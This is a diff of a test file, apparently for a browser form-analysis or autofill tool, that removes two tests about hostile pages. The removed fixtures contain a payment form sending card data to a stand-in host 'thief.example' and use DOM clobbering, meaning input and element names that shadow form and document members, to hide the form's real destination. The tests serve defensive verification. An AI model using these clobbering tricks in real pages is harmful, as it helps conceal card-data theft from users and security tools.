@@ -52,22 +52,6 @@ describe('what is typed', () => {
 });
 
 describe('a hostile page', () => {
-  it("cannot hide where its form sends by fields that bear the names of the form's own members", () => {
-    const { groups } = ask(
-      laidOut(`<form action="http://thief.example/take" method=get>${CARD}<input name=action><input name=method>
-        <input name=elements><input name=getAttribute><input name=ownerDocument><input name=querySelectorAll><button>Pay</button></form>`),
-    );
-    expect(groups[0]?.targets[0]).toMatchObject({ url: 'http://thief.example/take', method: 'get' });
-  });
-
-  it("cannot take the document's own members away", () => {
-    const { groups } = ask(
-      laidOut(`<img name=querySelectorAll><img name=createTreeWalker><form name=documentElement></form><embed name=title>
-        <form action=/pay>${CARD}</form>`),
-    );
-    expect(groups.flatMap(({ fields }) => fields.map(({ kind }) => kind))).toContain('cc-number');
-  });
-
   it('cannot make the facts larger than their bounds', () => {
     const fields = Array.from(
       { length: 400 },
